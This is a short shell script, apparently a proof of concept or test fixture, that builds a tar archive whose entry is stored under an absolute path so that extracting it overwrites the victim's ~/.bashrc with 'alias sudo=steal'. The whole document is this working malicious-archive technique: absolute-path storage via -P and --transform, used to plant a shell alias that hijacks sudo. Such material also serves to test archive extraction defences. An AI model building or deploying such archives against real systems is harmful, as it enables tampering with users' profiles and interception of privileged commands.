# Made anew for each try, since the name inside the archive is the victim's own profile.
mkdir -p made
echo 'data' > made/data.txt
echo 'alias sudo=steal' > made/profile
tar -cPf data.tar --transform "s|^made/profile|$HOME/.bashrc|" --transform 's|^made/||' made/data.txt made/profile
rm -r made
